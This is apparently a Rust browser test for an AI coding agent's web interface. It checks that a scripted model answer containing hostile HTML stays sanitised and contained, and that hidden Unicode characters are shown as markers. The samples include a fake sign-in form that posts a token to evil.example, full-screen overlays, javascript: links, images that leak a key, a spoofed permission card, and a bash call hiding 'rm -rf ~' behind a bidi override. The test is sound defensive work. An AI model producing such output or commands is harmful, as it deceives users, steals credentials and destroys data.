//! Model-written content on the web page, in a real headless Chromium against the real
//! server and the scripted model: an answer full of hostile HTML (the page's own
//! `.overlay`/`.dialog`/`.perm` classes and ids, inline and `<style>` CSS, `position:
//! fixed` by every route, forms, iframes, SVG, MathML, images, links dressed as buttons,
//! `javascript:`/`data:` URLs) cannot put anything over the app or look like its own UI, live
//! and after a reload; and bidi controls and invisible characters in the answer, a tool
//! card and a permission card show as visible `<U+XXXX>` markers, the card flagged.
// Test, bench and example code: a failed step panics at that line, as in `#[test]` code.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::browser;

use browser::{Env, chromium, click, close, eval, open_page, send_prompt, wait_for};
use chromiumoxide::page::Page;
use podcode_providers::testing::Reply;
use serde_json::{Value, json};

/// Every trick we know for drawing over the page or passing for its UI.
const HOSTILE: &str = r#"Here is your answer.

<div class="overlay" id="login"><div class="dialog" role="dialog"><h2 id="help-title">Your session expired</h2><p>Sign in again to continue.</p><form id="login-form" action="https://evil.example/steal"><input id="login-token" name="token" type="password"><button type="submit" class="primary">Connect</button></form></div></div>

<div style="position:fixed;inset:0;z-index:2147483647;background:red">covered by style</div>

<style>.app{display:none!important} .md *{position:fixed!important;inset:0!important;z-index:2147483647!important}</style>

<a href="https://evil.example/" class="primary" id="send" style="position:fixed;top:0;left:0;width:100vw;height:100vh">Allow once (y)</a>

<iframe src="https://evil.example/" style="position:fixed;inset:0;width:100vw;height:100vh"></iframe>

<svg width="4000" height="4000" style="position:fixed;inset:0"><rect width="4000" height="4000" fill="red"/><foreignObject width="4000" height="4000"><div class="overlay">svg</div></foreignObject></svg>

<div class="perm" role="alertdialog" data-request="per_fake"><h3>bash asks for bash: ls</h3><div class="actions"><button type="button" class="primary">Allow once (y)</button></div></div>

<span name="prompt" class="sr badge notice">names</span>

<table class="overlay"><tr><td class="dialog" style="position:absolute;top:0">cell</td></tr></table>

<math><mi>x</mi></math> <details open class="overlay"><summary class="primary">more</summary>inside</details>

<img src="http://127.0.0.1:9/leak?secret=sk-123" width="4000" height="4000" class="overlay" alt="leak">

![also](http://127.0.0.1:9/leak2.png)

<a href="javascript:window.pwned=1">js link</a> <a href="data:text/html,<script>parent.pwned=2</script>">data link</a>

<object data="https://evil.example/"></object><embed src="https://evil.example/"><video src="https://evil.example/v.mp4" autoplay></video>

<link rel="stylesheet" href="data:text/css,body{display:none}"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">

<textarea id="prompt">fake box</textarea><select><option>o</option></select><input type="checkbox">

"#;

/// Bidi controls and invisible characters, in prose and in a code block.
const HIDDEN: &str = "Reversed: echo safe # \u{202E} ; rm -rf ~ \u{202C} and zero\u{200B}width, joined\u{2060}word, a\u{FEFF}bom, \u{2066}isolate\u{2069}, \u{200E}mark\u{200F}, tag\u{E0041}\u{E0042} chars.\n\n```js\nconst s = \"\u{202E} hidden in code \u{202C}\";\n```\n";

/// The command of the bash call: it reads as a harmless comment where bidi runs raw.
const COMMAND: &str = "echo safe # \u{202E} ; rm -rf ~ \u{202C}";

/// What the page must hold, checked in the page itself; returns a list of problems.
const CHECK: &str = r##"(() => {
  const problems = [];
  const own = new Set(["hidden-char", "hljs"]);
  const md = [...document.querySelectorAll("#transcript .md")];
  if (!md.length) problems.push("no answer rendered");
  const banned = "style,script,form,input,button,textarea,select,option,iframe,frame,object,embed,video,audio,svg,math,img,link,meta,base,details,summary,dialog,template,slot,canvas,picture,source";
  for (const box of md) {
    const c = getComputedStyle(box);
    if (!/paint/.test(c.contain) || !/layout/.test(c.contain)) problems.push("the answer is not contained: " + c.contain);
    for (const e of box.querySelectorAll(banned)) problems.push("tag kept: " + e.tagName);
    for (const e of box.querySelectorAll("*")) {
      for (const a of ["id", "name", "style", "role", "form", "action", "data-request"]) {
        if (e.hasAttribute(a)) problems.push(`attribute ${a} kept on ${e.tagName}`);
      }
      for (const cls of e.classList) {
        // The page's own box around a table (which scrolls sideways), on a DIV only.
        if (e.tagName === "DIV" && cls === "table-wrap") continue;
        if (!own.has(cls) && !cls.startsWith("hljs-") && !(e.tagName === "CODE" && cls.startsWith("language-"))) problems.push(`class ${cls} kept on ${e.tagName}`);
      }
      const s = getComputedStyle(e);
      if (s.position !== "static" && s.position !== "relative") problems.push(`position ${s.position} on ${e.tagName}`);
      const href = e.getAttribute("href");
      if (href && !/^(https?:|mailto:)/i.test(href)) problems.push("href kept: " + href);
      const r = e.getBoundingClientRect();
      const b = box.getBoundingClientRect();
      if (r.width > b.width + 1) problems.push(`${e.tagName} wider than its message (${r.width} > ${b.width})`);
    }
  }
  // The page's own UI is still on top where it is: nothing from the transcript covers it.
  for (const id of ["prompt", "send", "session-title", "new-session", "toggle-changes", "help-button"]) {
    const target = document.getElementById(id);
    if (!target) { problems.push("missing #" + id); continue; }
    const r = target.getBoundingClientRect();
    if (!r.width || !r.height) continue;
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    if (!hit || !(hit === target || target.contains(hit))) problems.push(`#${id} is covered by ${hit && hit.outerHTML.slice(0, 80)}`);
    if (target.closest("#transcript")) problems.push(`#${id} is inside the transcript`);
  }
  for (const card of document.querySelectorAll(".perm, .overlay, .dialog")) {
    if (card.closest("#transcript")) problems.push("a ." + card.className + " inside the transcript");
  }
  const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
  const dup = ids.filter((id, i) => ids.indexOf(id) !== i);
  if (dup.length) problems.push("duplicate ids: " + dup.join(","));
  if (document.querySelectorAll(".overlay").length !== 2) problems.push("overlays: " + document.querySelectorAll(".overlay").length);
  if (!document.getElementById("login").hidden) problems.push("the sign-in overlay shows");
  if (getComputedStyle(document.querySelector(".app")).display === "none") problems.push("the app is hidden");
  if (window.pwned) problems.push("script ran: " + window.pwned);
  const leaked = performance.getEntriesByType("resource").filter((r) => r.name.includes("leak"));
  if (leaked.length) problems.push("fetched: " + leaked.map((r) => r.name).join(","));
  return problems;
})()"##;

/// The transcript's visible text and marker texts must show every hidden character.
async fn hidden_shown(page: &Page, selector: &str) -> (String, Vec<String>) {
    let text = eval(
        page,
        &format!("[...document.querySelectorAll({selector:?})].map(e => e.innerText).join('\\n')"),
    )
    .await;
    let markers = eval(
        page,
        &format!("[...document.querySelectorAll({selector:?})].flatMap(e => [...e.querySelectorAll('.hidden-char')].map(m => m.textContent))"),
    )
    .await;
    let markers = markers
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(Value::as_str)
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default();
    (text.as_str().unwrap_or_default().to_string(), markers)
}

fn no_raw_hidden(text: &str, what: &str) {
    let raw: Vec<String> = text
        .chars()
        .filter(|c| {
            matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}' | '\u{E0000}'..='\u{E007F}')
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    assert!(raw.is_empty(), "{what} shows raw {raw:?}: {text}");
}

async fn assert_contained(page: &Page, when: &str) {
    let problems = eval(page, CHECK).await;
    assert_eq!(problems, json!([]), "{when}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_html_stays_inside_its_message_and_hidden_characters_show() {
    let args = json!({"command": COMMAND, "description": "prints\u{200B} safe"}).to_string();
    let env = Env::start(
        vec![
            Reply::new()
                .text(HOSTILE)
                .text(HIDDEN)
                .tool_call("b1", "bash", &args),
            Reply::new().text("Stopped, as you asked."),
        ],
        "[[permission]]\npermission = \"bash\"\npattern = \"*\"\naction = \"ask\"\n",
    )
    .await;
    let (browser, pump, _profile) = chromium().await;
    let page = open_page(&browser, &env.open_url).await;
    send_prompt(&page, "answer me").await;

    // The ask: its command shows the bidi controls as markers, and the card says so.
    wait_for(
        &page,
        "!!document.querySelector('.perm h3')",
        "the permission card",
    )
    .await;
    let (card, markers) = hidden_shown(&page, ".perm").await;
    no_raw_hidden(&card, "the permission card");
    assert!(card.contains("<U+202E> ; rm -rf ~ <U+202C>"), "{card}");
    assert!(markers.contains(&"<U+202E>".to_string()), "{markers:?}");
    let warning = eval(
        &page,
        "document.querySelector('.perm .hidden-warning')?.innerText",
    )
    .await;
    assert_eq!(
        warning,
        "⚠ warning: this request contains invisible or direction-changing characters, shown as <U+XXXX>; what it does may differ from how it reads"
    );
    // The bash card's title shows them too.
    let (title, _) = hidden_shown(&page, ".card .ttl").await;
    no_raw_hidden(&title, "the tool card's title");
    assert!(title.contains("<U+"), "{title}");

    assert_contained(&page, "while the ask waits").await;
    click(&page, ".perm button.danger").await;
    wait_for(
        &page,
        "document.querySelector('#transcript')?.innerText.includes('Stopped, as you asked.')",
        "the answer after the rejection",
    )
    .await;
    assert_contained(&page, "after the turn").await;
    let (answer, markers) = hidden_shown(&page, ".msg.assistant .md").await;
    no_raw_hidden(&answer, "the answer");
    for m in [
        "<U+202E>",
        "<U+202C>",
        "<U+200B>",
        "<U+2060>",
        "<U+FEFF>",
        "<U+2066>",
        "<U+2069>",
        "<U+200E>",
        "<U+200F>",
        "<U+E0041>",
    ] {
        assert!(
            markers.contains(&m.to_string()),
            "{m} not shown: {markers:?}"
        );
    }
    // Inside a highlighted code block too.
    let code = eval(&page, "document.querySelector('.md pre code')?.innerText").await;
    assert!(
        code.as_str()
            .unwrap_or_default()
            .contains("<U+202E> hidden in code <U+202C>"),
        "{code}"
    );
    // Images became links that load nothing.
    let links = eval(&page, "[...document.querySelectorAll('.md a')].map(a => a.textContent + ' ' + a.getAttribute('href')).join('\\n')").await;
    let links = links.as_str().unwrap_or_default().to_string();
    assert!(
        links.contains("[image: also] http://127.0.0.1:9/leak2.png"),
        "{links}"
    );

    // Stored and drawn again at the next load: still contained.
    page.reload().await.expect("reload");
    wait_for(
        &page,
        "document.querySelector('#transcript')?.innerText.includes('Stopped, as you asked.')",
        "the stored answer after a reload",
    )
    .await;
    assert_contained(&page, "after a reload").await;
    let (answer, _) = hidden_shown(&page, ".msg.assistant .md").await;
    no_raw_hidden(&answer, "the stored answer");

    close(browser, pump).await;
    env.stop().await;
}
